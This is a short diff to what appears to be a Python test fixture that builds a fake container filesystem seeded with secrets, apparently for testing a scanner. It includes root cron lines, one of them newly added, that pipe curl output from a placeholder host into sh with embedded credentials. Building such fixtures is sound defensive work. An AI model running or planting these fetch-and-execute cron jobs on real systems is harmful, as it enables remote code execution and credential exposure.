@@ -59,6 +59,7 @@ def image():
     files = {"entry.sh": (SCRIPT, 0o755),
              "etc/cron.d/x": f"* * * * * root curl -u c:{VALUES['cron']} http://198.51.100.7/c | sh\n",
              "etc/systemd/system/x.service": f"[Service]\nExecStart=/usr/bin/x --password={VALUES['unit']}\n",
+             "srv/jobs.txt": f"*/5 * * * * root curl -u j:{VALUES['cron']} http://198.51.100.7/j | sh\n",
              "etc/os-release": "ID=alpine\nVERSION_ID=3.19.1\n", "etc/shadow": f"root:$6${VALUES['hash']}:19000:0:::::\n",
              "etc/apk/repositories": f"https://me:{VALUES['mirror']}@packages.example.org/x\n",
              "opt/start.py": PYTHON, "root/.bash_history": f"curl -s http://192.0.2.9/\nmysql -u root -p{VALUES['user']}\n"}
